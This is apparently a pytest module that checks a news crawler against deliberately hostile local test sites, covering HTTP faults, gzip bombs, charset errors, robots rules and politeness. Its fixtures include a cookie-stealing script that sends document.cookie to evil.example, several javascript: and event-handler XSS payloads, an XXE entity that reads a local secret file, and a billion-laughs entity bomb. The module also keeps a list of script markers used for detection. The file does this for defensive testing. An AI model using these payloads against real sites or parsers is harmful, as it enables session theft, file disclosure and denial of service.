"""Crawling hostile and broken sites: the crawl finishes, each failure is recorded with its reason, nothing
archived is lost or changed, no secret file is read, no script reaches a feed, and politeness holds.

One scenario per database: a first crawl archives every page while the sites behave ("good" mode);
then the same pages turn hostile and a second crawl runs; then the feeds are built. The tests
read the archive before and after, the CrawlError rows, the feed files, the crawl's log and
the servers' request logs. Each source has its own host (127.0.0.2, .3, ...): loopback
answers on all of 127/8, and host-level politeness is per host name.
"""

from __future__ import annotations

import itertools
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from sqlalchemy import select

from tests.conftest import write_config
from tests.reliability.faultsite import (
    FaultSite,
    Hit,
    article_html,
    drip,
    gzip_bomb,
    gzip_bomb_body,
    huge,
    page,
    redirect,
    reset,
    send,
    short_body,
    status,
)
from warta.storage.database import Database
from warta.storage.models import CrawlError, CrawlRun, Document, Revision

SECRET = "XXE-SECRET-4f1c9a-do-not-leak"
PER_HOST = 2
MAX_PAGES = 2
MAX_PAGE_BYTES = 8_000_000

FAULTS = {
    "/a/e500": status(500),
    "/a/e502": status(502),
    "/a/e503": status(503),
    "/a/e429": status(429, {"Retry-After": "1"}),
    "/a/reset": reset,
    "/a/short": short_body,
    "/a/loop": redirect("/a/loop-b"),
    "/a/big": huge(50_000_000, with_length=True, stop_after_bytes=MAX_PAGE_BYTES + 500_000),
    "/a/big-unannounced": huge(50_000_000, with_length=False, stop_after_bytes=MAX_PAGE_BYTES + 500_000),
    "/a/bomb": gzip_bomb,
    "/a/pdf": page("%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF", "application/pdf", "latin-1"),
    "/a/image": lambda handler: send(handler, 200, b"\x89PNG\r\n\x1a\n" + b"\0" * 2000, "image/png"),
}
# What each fault must be recorded as (a fragment of CrawlError.reason)
EXPECTED_REASONS = {
    "/a/e500": "500",
    "/a/e502": "502",
    "/a/e503": "503",
    "/a/e429": "429",
    "/a/reset": "",
    "/a/short": "",
    "/a/drip": "",
    "/a/loop": "redirect",
    "/a/big": "max size",
    "/a/big-unannounced": "max_page_bytes",
    "/a/bomb": "MAXSIZE",
    "/a/pdf": "not a text page",
    "/a/image": "not a text page",
}
SCRIPTED = (
    "<script>document.location='http://evil.example/?c='+document.cookie</script>"
    '<iframe src=\'javascript:alert(1)\'></iframe><p onclick="alert(2)">Klik <a href="javascript:alert(3)">di sini</a>'
    ' atau <a href="JaVaScRiPt:alert(4)">sini</a>.</p><img src=x onerror="alert(5)">'
    "<svg onload=\"alert(6)\"></svg><object data='javascript:alert(7)'></object>"
)
# Unlike the other pages, so it is not folded into their cluster and shows in the feeds itself.
SCRIPTED_STORY = (
    "Museum Sejarah Jakarta membuka pameran foto tentang pelabuhan Sunda Kelapa dari abad ketujuh belas. "
    "Kurator memilih dua ratus foto dan peta kuno dari koleksi arsip nasional dan perpustakaan Belanda. "
    "Pengunjung dapat mengikuti tur berpemandu setiap Sabtu pagi tanpa biaya tambahan."
)
SCRIPT_MARKERS = ("<script", "javascript:", "onerror", "onclick", "onload", "<iframe", "<object", "alert(")
CHARSET_TEXT = "Pertunjukan café “Gambang Kromong” — tiket Rp 25.000 · naïve résumé"


def feed_xml(items: list[str], doctype: str = "", title: str = "Kabar Budaya") -> str:
    entries = "".join(f"<item><title>{title}</title><link>{url}</link></item>" for url in items)
    return f'<?xml version="1.0"?>{doctype}<rss version="2.0"><channel><title>{title}</title>{entries}</channel></rss>'


def laughs(root: str) -> str:
    levels = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{n} "{"".join(f"&lol{n - 1};" for _ in range(10))}">' for n in range(1, 10)
    ]
    return f"<!DOCTYPE {root} [{''.join(levels)}]>"


def xxe(root: str, secret_path: Path) -> str:
    return f'<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "file://{secret_path}">]>'


@dataclass
class Sites:
    """The hostile sites, by the source they serve."""

    pages: FaultSite
    feeds: FaultSite
    maps: FaultSite
    listing: FaultSite
    elsewhere: FaultSite
    fresh: FaultSite

    def all(self) -> list[FaultSite]:
        return [self.pages, self.feeds, self.maps, self.listing, self.elsewhere, self.fresh]


def build_sites(secret_path: Path) -> Sites:
    sites = Sites(*(FaultSite(f"127.0.0.{n}") for n in range(2, 8)))
    pages = sites.pages
    for path, fault in FAULTS.items():
        pages.route(path, good=page(article_html(path.rsplit("/", 1)[1])), hostile=fault)
    pages.route("/a/drip", good=page(article_html("drip")), hostile=drip(pages))
    pages.route("/a/loop-b", hostile=redirect("/a/loop"))
    pages.route(
        "/a/moved-away", good=page(article_html("moved")), hostile=redirect(f"{sites.elsewhere.url}/landed", 301)
    )
    sites.elsewhere.route("/landed", good=page(article_html("landed")))
    pages.route("/private/agenda", good=page(article_html("private")))
    pages.route(
        "/robots.txt",
        good=page("User-agent: *\nAllow: /\n", "text/plain"),
        hostile=page("User-agent: *\nDisallow: /private/\n", "text/plain"),
    )
    fresh = sites.fresh
    fresh.route(
        "/n/scripted",
        hostile=page(article_html("scripted", SCRIPTED, title="Pameran <b>aman</b>", text=SCRIPTED_STORY)),
    )
    fresh.route(
        "/n/cp1252-as-utf8",
        hostile=page(article_html("cp1252", f"<p>{CHARSET_TEXT}</p>"), "text/html; charset=utf-8", "cp1252"),
    )
    fresh.route(
        "/n/utf8-as-cp1252",
        hostile=page(
            article_html("utf8", f"<p>{CHARSET_TEXT}</p>", charset="windows-1252"), "text/html; charset=windows-1252"
        ),
    )
    fresh.route(
        "/n/no-charset",
        hostile=page(
            article_html("nocharset", f"<p>{CHARSET_TEXT}</p>").replace("<meta charset='utf-8'>", ""), "text/html"
        ),
    )

    feeds = sites.feeds
    item = f"{feeds.url}/f/item"
    feeds.route("/f/item", good=page(article_html("feed-item")))
    good_feed = page(feed_xml([item]), "application/rss+xml")
    feeds.route(
        "/feed/broken.xml",
        good=good_feed,
        hostile=page(feed_xml([item])[:-30] + "<item><title>", "application/rss+xml"),
    )
    feeds.route(
        "/feed/xxe.xml",
        good=good_feed,
        hostile=page(feed_xml([f"{feeds.url}/f/xxe-item"], xxe("rss", secret_path), "&xxe;"), "application/rss+xml"),
    )
    feeds.route(
        "/feed/laughs.xml",
        good=good_feed,
        hostile=page(feed_xml([f"{feeds.url}/f/laughs-item"], laughs("rss"), "&lol9;"), "application/rss+xml"),
    )
    feeds.route("/f/xxe-item", hostile=page(article_html("xxe-item")))
    feeds.route("/f/laughs-item", hostile=page(article_html("laughs-item")))

    maps = sites.maps
    maps.route("/s/page", good=page(article_html("sitemap-page")))
    own_index = (
        '<?xml version="1.0"?><sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
        f"<sitemap><loc>{maps.url}/sitemap/self.xml</loc></sitemap>"
        f"<sitemap><loc>{maps.url}/sitemap/urls.xml</loc></sitemap></sitemapindex>"
    )
    maps.route("/sitemap/self.xml", good=page(own_index, "application/xml"))
    urlset = '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{}</urlset>'
    maps.route(
        "/sitemap/urls.xml", good=page(urlset.format(f"<url><loc>{maps.url}/s/page</loc></url>"), "application/xml")
    )
    maps.route(
        "/sitemap/xxe.xml",
        good=page(urlset.format(""), "application/xml"),
        hostile=page(
            '<?xml version="1.0"?>'
            + xxe("urlset", secret_path)
            + urlset.format(f"<url><loc>{maps.url}/s/&xxe;</loc></url>"),
            "application/xml",
        ),
    )
    maps.route(
        "/sitemap/laughs.xml",
        good=page(urlset.format(""), "application/xml"),
        hostile=page(
            '<?xml version="1.0"?>' + laughs("urlset") + urlset.format(f"<url><loc>{maps.url}/s/&lol9;</loc></url>"),
            "application/xml",
        ),
    )

    listing = sites.listing
    for number in range(20):
        listing.route(f"/artikel/{number}", good=page(article_html(f"artikel-{number}")))
    links = "".join(
        f"<a href=/artikel/{n % 20}?utm_source={n}#b{n}>{n}</a>" if n % 2 else f"<a href=/lain/{n}>{n}</a>"
        for n in range(100_000)
    )
    flood = f"<html><body><h1>Berita</h1>{links}<a rel='next' href='/berita-2'>Berikutnya</a></body></html>"
    listing.route("/berita", good=page(flood))
    for number in range(2, 5):  # short pages after the flood, each linking the next: max_pages stops the walk
        following = f"<a rel='next' href='/berita-{number + 1}'>Berikutnya</a>"
        listing.route(f"/berita-{number}", good=page(f"<html><body><a href=/artikel/1>1</a>{following}</body></html>"))
    return sites


def config_text(sites: Sites, db_url: str, feed_dir: Path) -> str:
    pages = [f"{sites.pages.url}{path}" for path in [*FAULTS, "/a/drip", "/a/moved-away", "/private/agenda"]]
    new_pages = [
        f"{sites.fresh.url}/n/{name}" for name in ("scripted", "cp1252-as-utf8", "utf8-as-cp1252", "no-charset")
    ]
    feeds = [f"{sites.feeds.url}/feed/{name}.xml" for name in ("broken", "xxe", "laughs")]
    maps = [f"{sites.maps.url}/sitemap/{name}.xml" for name in ("self", "xxe", "laughs")]
    quoted = lambda urls: ", ".join(f'"{url}"' for url in urls)  # noqa: E731
    return f"""
[storage]
url = "{db_url}"

[crawler]
download_delay = "0s"
per_host_concurrency = {PER_HOST}
concurrency = 16
# long enough that a page a busy two-core machine serves slowly is not timed out and fetched again
# (the 100,000-link listing was, at 2 s), short enough that the dripping page is abandoned quickly
timeout = "8s"
max_page_bytes = {MAX_PAGE_BYTES}
user_agent = "warta-test/1 (+https://example.org/warta)"

[feeds]
dir = "{feed_dir}"

[[sources]]
id = "pages"
kind = "page"
urls = [{quoted(pages)}]

[[sources]]
id = "new-pages"
kind = "page"
urls = [{quoted(new_pages)}]

[[sources]]
id = "feeds"
kind = "feed"
urls = [{quoted(feeds)}]

[[sources]]
id = "maps"
kind = "sitemap"
urls = [{quoted(maps)}]

[[sources]]
id = "listing"
kind = "listing"
urls = ["{sites.listing.url}/berita"]
follow = ["/artikel/"]
max_pages = {MAX_PAGES}

[[topics]]
id = "seni"
title = "Seni"
any = ["pertunjukan", "Jakarta"]
"""


@dataclass
class Scenario:
    """What the two crawls and the feed build left behind."""

    sites: Sites
    db_url: str
    before: dict[str, dict[str, object]]
    after: dict[str, dict[str, object]]
    errors: dict[str, list[str]]
    runs: list[tuple[str, str]]
    crawl_log: str
    crawl_exit: int
    feed_dir: Path
    texts: dict[str, str]
    html: dict[str, str]


def archive_state(db_url: str) -> dict[str, dict[str, object]]:
    """Return every document with all its revisions, by canonical URL."""
    database = Database(db_url)
    try:
        with database.reading() as session:
            state: dict[str, dict[str, object]] = {}
            for document in session.execute(select(Document)).scalars():
                revisions = session.execute(
                    select(Revision.number, Revision.content_hash, Revision.title, Revision.text)
                    .where(Revision.document_id == document.id)
                    .order_by(Revision.number)
                ).all()
                state[document.canonical_url] = {
                    "uid": document.uid,
                    "status": document.status,
                    "current_revision": document.current_revision,
                    "content_hash": document.content_hash,
                    "revisions": [tuple(row) for row in revisions],
                }
            return state
    finally:
        database.dispose()


def crawl(config: Path) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "warta", "--config", str(config), "crawl"]
    return subprocess.run(command, capture_output=True, text=True, timeout=240, check=False)


# SQLite only: this scenario tests what the crawler does with hostile input; storage under
# crashes and concurrency is tested on both databases in test_crawl_crashes.py.
@pytest.fixture(scope="module")
def scenario(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Scenario]:
    root = tmp_path_factory.mktemp("hostile")
    secret_path = root / "secret.txt"
    secret_path.write_text(SECRET, encoding="utf-8")
    sites = build_sites(secret_path)
    gzip_bomb_body()  # compress it now, not while a crawler waits for the answer
    db_url = f"sqlite:///{root / 'warta.db'}"
    for site in sites.all():
        site.start()
    try:
        config = write_config(root, config_text(sites, db_url, root / "public"))
        first = crawl(config)
        assert first.returncode == 0, first.stderr
        before = archive_state(db_url)
        for site in sites.all():
            site.mode = "hostile"
            site.hits.clear()
        second = crawl(config)
        built = subprocess.run(
            [sys.executable, "-m", "warta", "--config", str(config), "feeds", "build"], capture_output=True, text=True
        )
        assert built.returncode == 0, built.stderr
        database = Database(db_url)
        try:
            with database.reading() as session:
                latest = session.execute(select(CrawlRun.id).order_by(CrawlRun.id.desc()).limit(5)).scalars().all()
                errors: dict[str, list[str]] = {}
                for url, reason in session.execute(
                    select(CrawlError.url, CrawlError.reason).where(CrawlError.run_id.in_(latest))
                ):
                    errors.setdefault(url, []).append(reason)
                runs = [
                    tuple(row)
                    for row in session.execute(
                        select(CrawlRun.source_id, CrawlRun.status).where(CrawlRun.id.in_(latest))
                    )
                ]
                current = select(Document.canonical_url, Revision.text, Revision.html).join(
                    Revision, (Revision.document_id == Document.id) & (Revision.number == Document.current_revision)
                )
                rows = session.execute(current).all()
        finally:
            database.dispose()
        yield Scenario(
            sites,
            db_url,
            before,
            archive_state(db_url),
            errors,
            runs,
            second.stdout + second.stderr,
            second.returncode,
            root / "public",
            {url: text for url, text, _ in rows},
            {url: html or "" for url, _, html in rows},
        )
    finally:
        for site in sites.all():
            site.stop()


def test_first_crawl_archived_every_page_while_the_sites_behaved(scenario: Scenario) -> None:
    # Negative control for everything below: the pages that later fail were archived first.
    archived = {url.split("/", 3)[3] for url in scenario.before}
    for path in [*FAULTS, "/a/drip", "/a/moved-away", "/private/agenda", "/f/item", "/s/page", "/artikel/7"]:
        assert path.lstrip("/") in archived, path


def test_hostile_crawl_finishes_with_every_source_run_closed(scenario: Scenario) -> None:
    assert scenario.crawl_exit in (0, 1), scenario.crawl_log
    assert sorted(source for source, _ in scenario.runs) == ["feeds", "listing", "maps", "new-pages", "pages"]
    assert all(run_status in ("ok", "failed") for _, run_status in scenario.runs), scenario.runs
    assert "Traceback" not in scenario.crawl_log


def test_nothing_archived_before_is_lost_or_changed(scenario: Scenario) -> None:
    for url, document in scenario.before.items():
        assert url in scenario.after, f"{url} was lost"
        assert scenario.after[url] == document, f"{url} changed"


@pytest.mark.parametrize("path", list(EXPECTED_REASONS), ids=list(EXPECTED_REASONS))
def test_each_failing_page_is_recorded_with_its_reason(scenario: Scenario, path: str) -> None:
    url = f"{scenario.sites.pages.url}{path}"
    assert url in scenario.errors, f"no CrawlError for {path}; errors: {sorted(scenario.errors)}"
    assert any(EXPECTED_REASONS[path] in reason for reason in scenario.errors[url]), scenario.errors[url]


@pytest.mark.parametrize("name", ["broken", "xxe", "laughs"])
def test_bad_feeds_are_recorded_or_read_without_their_entities(scenario: Scenario, name: str) -> None:
    url = f"{scenario.sites.feeds.url}/feed/{name}.xml"
    if name == "broken":
        assert any("feed" in reason for reason in scenario.errors.get(url, [])), scenario.errors
    assert not any(hit.path.startswith("/etc") for hit in scenario.sites.feeds.hits)


def test_no_secret_file_content_reaches_the_archive_feeds_or_logs(scenario: Scenario) -> None:
    assert SECRET not in scenario.crawl_log
    assert all(SECRET not in text for text in scenario.texts.values())
    assert all(SECRET not in html for html in scenario.html.values())
    for path in scenario.feed_dir.rglob("*"):
        if path.is_file():
            assert SECRET.encode() not in path.read_bytes(), path
    assert not any(SECRET in reason for reasons in scenario.errors.values() for reason in reasons)
    assert not any("lollollol" in text for text in scenario.texts.values())


def test_no_script_reaches_a_feed(scenario: Scenario) -> None:
    scripted = f"{scenario.sites.fresh.url}/n/scripted"
    assert scripted in scenario.texts, "the scripted article was not recorded at all"
    files = [path for path in scenario.feed_dir.rglob("*") if path.is_file()]
    assert any(b"scripted" in path.read_bytes() for path in files), "the scripted article is in no feed"
    for path in files:
        data = path.read_bytes().decode("utf-8").lower()
        for marker in SCRIPT_MARKERS:
            assert marker not in data, f"{marker} in {path.name}"
    assert not any(marker in scenario.html[scripted].lower() for marker in SCRIPT_MARKERS)


@pytest.mark.parametrize("name", ["cp1252-as-utf8", "utf8-as-cp1252", "no-charset"])
def test_pages_with_a_wrong_charset_are_stored_as_readable_text(scenario: Scenario, name: str) -> None:
    text = scenario.texts[f"{scenario.sites.fresh.url}/n/{name}"]
    assert "café" in text and "“Gambang Kromong”" in text, text[-300:]
    assert "\ufffd" not in text and "Ã" not in text


def _gaps(hits: list[Hit]) -> list[float]:
    starts = sorted(hit.started for hit in hits)
    return [later - earlier for earlier, later in itertools.pairwise(starts)]


def peak_concurrency(hits: list[Hit], slack_seconds: float = 0.05) -> int:
    """Return the most requests the server was serving at once, as the client saw them.

    The server's handler may still be closing up for a moment after the client has its
    whole answer and starts the next request; `slack_seconds` forgives that moment.
    """
    return max(
        (
            1
            + sum(
                1 for other in hits if other is not hit and other.started <= hit.started < other.ended - slack_seconds
            )
            for hit in hits
        ),
        default=0,
    )


def _overlaps(hits: list[Hit]) -> str:
    t0 = min(hit.started for hit in hits)
    lines = []
    for hit in hits:
        others = [o for o in hits if o is not hit and o.started <= hit.started < o.ended - 0.05]
        if len(others) >= PER_HOST:
            lines.append(
                f"{hit.path}@{hit.started - t0:.3f} overlaps "
                + ", ".join(f"{o.path}@{o.started - t0:.3f}-{o.ended - t0:.3f}" for o in others)
            )
    return "\n".join(lines)


# Streams whose server side outlives the client's interest: the crawler hangs up when its reactor gets
# to it (the 100,000-link listing keeps it busy for seconds), and until then the server thread looks busy.
CLIENT_CLOSED = {"/a/drip", "/a/big", "/a/big-unannounced"}


def test_politeness_per_host_concurrency_holds(scenario: Scenario) -> None:
    # (the download delay is asserted in tests/crawler; with a delay, AutoThrottle
    # stretches this scenario's slow faults to minutes)
    for site in scenario.sites.all():
        if site is scenario.sites.elsewhere:
            continue  # only a redirect leads there, and a crawl does not leave its source's origins
        assert site.hits, site.url
        hits = [hit for hit in site.hits if hit.path not in CLIENT_CLOSED]
        assert peak_concurrency(hits) <= PER_HOST, _overlaps(hits)
        assert {hit.user_agent for hit in site.hits} == {"warta-test/1 (+https://example.org/warta)"}
    # negative control: requests to the pages host did overlap, so the limit was tested
    assert peak_concurrency(scenario.sites.pages.hits) >= PER_HOST


def test_a_redirect_to_another_host_is_not_followed(scenario: Scenario) -> None:
    assert scenario.sites.elsewhere.hits == []
    reasons = scenario.errors[f"{scenario.sites.pages.url}/a/moved-away"]
    assert any(f"redirected to {scenario.sites.elsewhere.url}/landed" in reason for reason in reasons), reasons


def test_retry_after_is_respected(scenario: Scenario) -> None:
    hits = scenario.sites.pages.hits_of("/a/e429")
    # the first try and up to two retries (a retry on a pooled connection the server had closed
    # fails before reaching it), each after the server's Retry-After of one second
    assert 2 <= len(hits) <= 3, hits
    assert min(_gaps(hits)) >= 1.0, _gaps(hits)


def test_robots_disallow_is_obeyed(scenario: Scenario) -> None:
    assert scenario.sites.pages.hits_of("/private/agenda") == []
    assert scenario.sites.pages.hits_of("/robots.txt")


def test_listing_walks_at_most_max_pages_and_fetches_each_article_once(scenario: Scenario) -> None:
    listing = scenario.sites.listing
    walked = [hit.path for hit in listing.hits if hit.path.startswith("/berita")]
    assert walked == ["/berita", "/berita-2"][:MAX_PAGES]
    article_hits = [hit.path for hit in listing.hits if hit.path.startswith("/artikel/")]
    assert len(article_hits) == len(set(article_hits)) <= 20
    assert not [hit for hit in listing.hits if hit.path.startswith("/lain/")]


def test_a_sitemap_listing_itself_is_read_once(scenario: Scenario) -> None:
    assert len(scenario.sites.maps.hits_of("/sitemap/self.xml")) == 1
